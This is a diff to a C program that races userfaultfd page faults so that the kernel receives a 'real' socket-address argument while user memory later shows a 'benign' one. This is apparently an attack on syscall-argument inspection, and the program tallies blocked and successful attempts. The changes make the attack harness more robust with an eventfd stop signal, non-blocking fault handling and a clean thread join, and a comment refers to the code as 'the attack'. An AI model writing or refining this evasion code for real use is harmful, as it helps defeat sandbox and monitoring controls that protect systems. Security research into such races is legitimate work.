@@ -35,6 +35,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/eventfd.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/socket.h>
@@ -47,6 +48,7 @@
 struct staging {
 	long page;
 	int uffd;
+	int stop;                    /* eventfd: the main thread is done, the handler returns */
 	const unsigned char *real;   /* the argument the kernel must see */
 	const unsigned char *benign; /* what user memory shows afterwards */
 	size_t len;
@@ -75,18 +77,33 @@ static void supply(struct staging *s, unsigned char *page_addr, const unsigned c
 		die("UFFDIO_COPY");
 }
 
-/* The fault handler: head of the real argument first; on the second fault, rewrite, then the tail. */
+/*
+ * The fault handler: head of the real argument first; on the second fault, rewrite, then the tail.
+ * It returns when the main thread signals `stop`, and the main thread joins it before it
+ * exits: a handler still reading the uffd while the process tears down is not an error of
+ * the attack, and must not print one.
+ */
 static void *handle_faults(void *arg)
 {
 	struct staging *s = arg;
 	struct uffd_msg msg;
-	struct pollfd pfd = { .fd = s->uffd, .events = POLLIN };
+	struct pollfd pfd[2] = { { .fd = s->uffd, .events = POLLIN }, { .fd = s->stop, .events = POLLIN } };
 
 	for (;;) {
-		if (poll(&pfd, 1, -1) < 0)
+		if (poll(pfd, 2, -1) < 0) {
+			if (errno == EINTR)
+				continue;
 			die("poll");
-		if (read(s->uffd, &msg, sizeof(msg)) != sizeof(msg))
+		}
+		if (pfd[1].revents)
+			return NULL;
+		if (!(pfd[0].revents & POLLIN))
+			continue;
+		if (read(s->uffd, &msg, sizeof(msg)) != sizeof(msg)) {
+			if (errno == EAGAIN || errno == EINTR)
+				continue;
 			die("read uffd");
+		}
 		if (msg.event != UFFD_EVENT_PAGEFAULT)
 			continue;
 		unsigned char *first = s->area, *second = s->area + s->page;
@@ -184,11 +201,15 @@ int main(int argc, char **argv)
 		s.head = offsetof(struct sockaddr_in, sin_zero); /* family, port, address; the zeros are shared */
 	}
 
-	s.uffd = syscall(SYS_userfaultfd, O_CLOEXEC);
+	/* non-blocking: poll() on a blocking userfaultfd reports POLLERR at once on older kernels */
+	s.uffd = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
 	if (s.uffd < 0)
 		die("userfaultfd");
 	if (ioctl(s.uffd, UFFDIO_API, &api) < 0)
 		die("UFFDIO_API");
+	s.stop = eventfd(0, EFD_CLOEXEC);
+	if (s.stop < 0)
+		die("eventfd");
 	if (pthread_create(&handler, NULL, handle_faults, &s))
 		die("pthread_create");
 	if (getchar() == EOF)
@@ -219,6 +240,11 @@ int main(int argc, char **argv)
 			fprintf(stderr, "iteration %ld: memory does not show the benign argument\n", i);
 		unstage(&s);
 	}
+	if (eventfd_write(s.stop, 1) < 0)
+		die("eventfd_write");
+	if (pthread_join(handler, NULL))
+		die("pthread_join");
+	close(s.uffd);
 	printf("{\"iterations\": %ld, \"eperm\": %ld, \"succeeded\": %ld, \"other\": %ld}\n", iterations, eperm,
 	       succeeded, other);
 	return 0;
